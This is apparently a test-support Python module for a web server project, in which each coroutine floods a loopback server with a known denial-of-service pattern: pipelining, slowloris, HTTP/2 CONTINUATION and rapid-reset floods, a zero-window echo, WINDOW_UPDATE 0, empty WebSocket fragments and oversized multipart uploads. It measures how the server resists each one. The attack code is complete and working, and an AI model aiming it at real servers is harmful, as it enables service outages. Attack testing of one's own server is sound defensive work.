"""The attacks ``make attack`` runs: each a coroutine that attacks a live server at
``address`` until it is done or ``seconds`` pass, and returns what the attacker got back
(one line of text).  They are the attacks of SECURITY.md, shaped as issue #15 measured
them, at loopback speed.
"""

from __future__ import annotations

import contextlib
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

import anyio
import anyio.abc
import h2.events
import hpack

from tests.support.h2peer import (
    SocketPeer,
    client_preface,
    goaway_codes,
    raw_continuation,
    raw_headers,
    raw_rst,
    raw_window_update,
    request_headers,
)
from tests.support.wsclient import masked_frame, ws_connect

Address = tuple[str, int]
GET = b"GET / HTTP/1.1\r\nHost: attacker\r\n\r\n"
#: Where the attacks come from: another loopback address than the normal client's, and
#: not in the default forwarded_allow_ips (127.0.0.1 would be trusted as a proxy, with a
#: flood budget per connection instead of per client).
ATTACKER_HOST = "127.0.0.2"


async def connect(address: Address) -> anyio.abc.SocketStream:
    return await anyio.connect_tcp(*address, local_host=ATTACKER_HOST)


@dataclass(frozen=True)
class Attack:
    key: str
    title: str
    run: Callable[[Address, float], Awaitable[str]]
    #: Budget for the server's RSS growth during the attack, in MiB.
    rss_budget_mib: int = 64
    #: At least this long, whatever ``--seconds`` says (what the answer waits for).
    min_seconds: float = 0.0


async def pipelining(address: Address, seconds: float) -> str:
    """One connection pipelines 2,000 requests per write and reads the answers."""
    answered = 0
    stop = time.monotonic() + seconds
    async with await connect(address) as stream:
        while time.monotonic() < stop:
            await stream.send(GET * 2000)
            got = 0
            while got < 2000:
                got += (await stream.receive(1 << 20)).count(b"HTTP/1.1 200")
            answered += got
    return f"{answered} answers"


async def pipelining_never_reading(address: Address, seconds: float) -> str:
    """Twenty connections pipeline 2,000 requests per write and never read."""
    sent = 0

    async def flood(stream: anyio.abc.SocketStream) -> None:
        nonlocal sent
        with anyio.move_on_after(seconds):
            while True:
                await stream.send(GET * 2000)
                sent += 2000

    streams = [await connect(address) for _ in range(20)]
    try:
        async with anyio.create_task_group() as tasks:
            for stream in streams:
                tasks.start_soon(flood, stream)
    finally:
        for stream in streams:
            await stream.aclose()
    return f"{sent} requests written before back-pressure stopped the writers"


async def slowloris(address: Address, seconds: float) -> str:
    """500 connections drip a request head a byte a second."""
    head = b"GET / HTTP/1.1\r\nHost: slowloris\r\nX-Drip: " + b"a" * 100
    streams = [await connect(address) for _ in range(500)]
    closed = 0
    try:
        for i in range(int(seconds)):
            for stream in streams:
                with contextlib.suppress(anyio.BrokenResourceError, OSError):
                    await stream.send(head[i % len(head) : i % len(head) + 1])
            await anyio.sleep(1)
        for stream in streams:
            with anyio.move_on_after(0.01):
                try:
                    if b" 408 " in await stream.receive():
                        closed += 1
                except (anyio.EndOfStream, anyio.BrokenResourceError, OSError):
                    closed += 1
    finally:
        for stream in streams:
            await stream.aclose()
    return f"{closed} of 500 answered 408 or closed"


async def h2_zero_window_echo(address: Address, seconds: float) -> str:
    """One HTTP/2 connection posts 100 bodies of 16 MB to an echo route and never opens
    its receive window (the echoes cannot leave)."""
    body = b"e" * 16_000_000
    async with SocketPeer.connect(address, ATTACKER_HOST, initial_window=0) as peer:
        peer.auto_ack = False
        peer.keep_raw = False
        ids = []
        for _ in range(100):
            sid = peer.conn.get_next_available_stream_id()
            headers = request_headers("POST", "/echo", scheme="http")
            headers.append((b"content-length", b"%d" % len(body)))
            peer.conn.send_headers(sid, headers)
            ids.append(sid)
        await peer.flush()
        sent = dict.fromkeys(ids, 0)
        started = time.monotonic()
        with anyio.move_on_after(seconds):
            while not all(peer.stream_ended(sid) for sid in ids) and not peer.closed:
                for sid in ids:
                    while sent[sid] < len(body) and not peer.stream_ended(sid):
                        window = min(
                            peer.conn.local_flow_control_window(sid),
                            peer.conn.max_outbound_frame_size,
                            len(body) - sent[sid],
                        )
                        if window <= 0:
                            break
                        end = sent[sid] + window == len(body)
                        peer.conn.send_data(sid, body[:window], end_stream=end)
                        sent[sid] += window
                await peer.flush()
                await peer.receive(timeout=seconds)
        took = time.monotonic() - started
        statuses = [
            int(dict(e.headers)[b":status"])
            for e in peer.events
            if isinstance(e, h2.events.ResponseReceived)
        ]
        resets = sum(isinstance(e, h2.events.StreamReset) for e in peer.events)
    return (
        f"{sum(sent.values()) / 1e6:.0f} MB uploaded; {statuses.count(503)} x 503; "
        f"{resets} of 100 streams reset within {took:.1f} s"
    )


async def h2_continuation_flood(address: Address, seconds: float) -> str:
    """400 connections each send a header block of endless CONTINUATION frames."""
    block = raw_continuation(1, b"\x00" * 16384)  # literal fields, never END_HEADERS
    first = raw_headers(1, request_headers("GET", "/"), end_headers=False)
    codes: list[int] = []

    async def one() -> None:
        try:
            async with await connect(address) as stream:
                await stream.send(client_preface() + first)
                out = b""
                with anyio.move_on_after(seconds):
                    for _ in range(200):
                        await stream.send(block)
                    while True:
                        out += await stream.receive()
                codes.extend(goaway_codes(out))
        except (anyio.EndOfStream, anyio.BrokenResourceError, OSError):
            codes.append(-1)

    async with anyio.create_task_group() as tasks:
        for _ in range(400):
            tasks.start_soon(one)
    return (
        f"{codes.count(0xB)} read GOAWAY ENHANCE_YOUR_CALM, {codes.count(-1)} closed before "
        "(their writes failed), of 400"
    )


async def h2_rapid_reset(address: Address, seconds: float) -> str:
    """Eight connections open and reset streams as fast as they can, reconnecting when
    the server sends GOAWAY."""
    encoder_streams = 0
    goaways = 0

    async def one() -> None:
        nonlocal encoder_streams, goaways
        stop = time.monotonic() + seconds
        while time.monotonic() < stop:
            try:
                async with await connect(address) as stream:
                    encoder = hpack.Encoder()
                    await stream.send(client_preface())
                    sid = 1
                    while time.monotonic() < stop:
                        burst = b""
                        for _ in range(100):
                            burst += raw_headers(sid, request_headers("GET", "/"), encoder=encoder)
                            burst += raw_rst(sid)
                            sid += 2
                        await stream.send(burst)
                        encoder_streams += 100
                        with anyio.move_on_after(0.001):
                            if goaway_codes(await stream.receive()):
                                goaways += 1
                                break
            except (anyio.EndOfStream, anyio.BrokenResourceError, OSError):
                goaways += 1

    async with anyio.create_task_group() as tasks:
        for _ in range(8):
            tasks.start_soon(one)
    return f"{encoder_streams} streams opened and reset; {goaways} connections ended by the server"


async def h2_window_update_zero(address: Address, seconds: float) -> str:
    """WINDOW_UPDATE of 0 on an open stream, a thousand times over new connections."""
    resets = 0
    async with anyio.create_task_group():
        for _ in range(1000):
            async with SocketPeer.connect(address, ATTACKER_HOST) as peer:
                sid = peer.conn.get_next_available_stream_id()
                peer.conn.send_headers(sid, request_headers("GET", "/"), end_stream=False)
                await peer.flush()
                await peer.send_raw(raw_window_update(sid, 0))
                with anyio.move_on_after(1):
                    await peer.until(lambda _, sid=sid: peer.stream_ended(sid))
                resets += any(isinstance(e, h2.events.StreamReset) for e in peer.events)
    return f"{resets} of 1000 streams reset (RST_STREAM, the connection kept)"


async def ws_empty_fragments(address: Address, seconds: float) -> str:
    """A WebSocket message of endless empty continuation frames."""
    empty = masked_frame(0x0, b"", fin=False)
    sent = 0
    async with ws_connect(*address, "/ws", local_host=ATTACKER_HOST) as ws:
        await ws.send_raw(masked_frame(0x2, b"a", fin=False))
        with anyio.move_on_after(seconds):
            try:
                while True:
                    await ws.send_raw(empty * 10_000)
                    sent += 10_000
            except (anyio.BrokenResourceError, OSError):
                pass
        code: object = "no close"
        with anyio.move_on_after(2):
            event = await ws.recv()
            code = getattr(event, "code", event)
    return f"{sent} empty fragments written; closed with {code}"


async def multipart_many_parts(address: Address, seconds: float) -> str:
    """600 file parts of 1,000,000 bytes each, on 4 connections at once."""
    boundary = b"attackboundary"
    part = (
        b"--" + boundary + b'\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n" + b"p" * 1_000_000 + b"\r\n"
    )
    body = part * 600 + b"--" + boundary + b"--\r\n"
    head = (
        b"POST /upload HTTP/1.1\r\nHost: attacker\r\n"
        b"Content-Type: multipart/form-data; boundary=" + boundary + b"\r\n"
        b"Content-Length: %d\r\n\r\n" % len(body)
    )
    statuses: list[bytes] = []

    async def one() -> None:
        async with await connect(address) as stream:
            await stream.send(head + body)
            with anyio.move_on_after(seconds):
                reply = await stream.receive()
                statuses.append(reply.split(b" ", 2)[1])

    async with anyio.create_task_group() as tasks:
        for _ in range(4):
            tasks.start_soon(one)
    return f"answers {b', '.join(statuses).decode()} ({len(body) / 1e6:.0f} MB each)"


ATTACKS = [
    Attack("pipelining", "one connection pipelining and reading", pipelining),
    Attack(
        "pipelining-noread", "20 connections pipelining, never reading", pipelining_never_reading
    ),
    Attack("slowloris", "500 connections dripping request heads", slowloris),
    # 16 bodies of 16 MB fit the default 256 MiB body budget; send_timeout is 30 s.
    Attack(
        "h2-zero-window-echo",
        "HTTP/2 100 x 16 MB echo, window shut",
        h2_zero_window_echo,
        rss_budget_mib=320,
        min_seconds=40,
    ),
    # Each connection holds at most twice max_header_bytes of block, plus its own state
    # (~100-200 KiB of an h2 connection and its buffers); 535 MiB before the cut.
    Attack(
        "h2-continuation",
        "HTTP/2 endless CONTINUATION, 400 connections",
        h2_continuation_flood,
        rss_budget_mib=128,
    ),
    Attack("h2-rapid-reset", "HTTP/2 rapid reset from 8 reconnecting connections", h2_rapid_reset),
    Attack("h2-window-update-0", "HTTP/2 WINDOW_UPDATE 0 on a stream", h2_window_update_zero),
    Attack("ws-empty-fragments", "WebSocket endless empty continuation frames", ws_empty_fragments),
    Attack("multipart-parts", "4 uploads of 600 x 1 MB file parts", multipart_many_parts),
]
